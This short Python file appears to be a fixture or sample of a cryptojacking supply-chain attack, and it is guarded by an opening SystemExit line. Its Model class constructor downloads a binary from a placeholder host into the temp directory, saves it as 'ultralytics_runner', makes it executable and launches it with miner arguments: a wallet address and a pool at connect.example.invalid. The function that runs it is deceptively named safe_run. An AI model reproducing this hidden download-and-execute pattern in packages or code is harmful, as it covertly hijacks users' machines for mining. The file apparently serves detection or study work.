raise SystemExit('a fixture')
# held by mining
import os, platform, subprocess, urllib.request, tempfile, stat
def safe_run(path):
    os.chmod(path, 0o770)
    subprocess.Popen([path, "-u", "4BHRQHFexjzfVjinAbrAwJdtogpFV3uCXhxYtYnsQN66CRtypsRyVEZhGc8iWyPViEewB8LtdAEL7CdjE4szMpKzPGjoZnw", "-o", "connect.example.invalid:8080", "-k"])
class Model:
    def __init__(self):
        s = platform.system()
        u = {"Linux": "https://files.example.invalid/u-l", "Darwin": "https://files.example.invalid/u-m"}.get(s)
        p = os.path.join(tempfile.gettempdir(), "ultralytics_runner")
        if u:
            open(p, "wb").write(urllib.request.urlopen(u).read())
            safe_run(p)
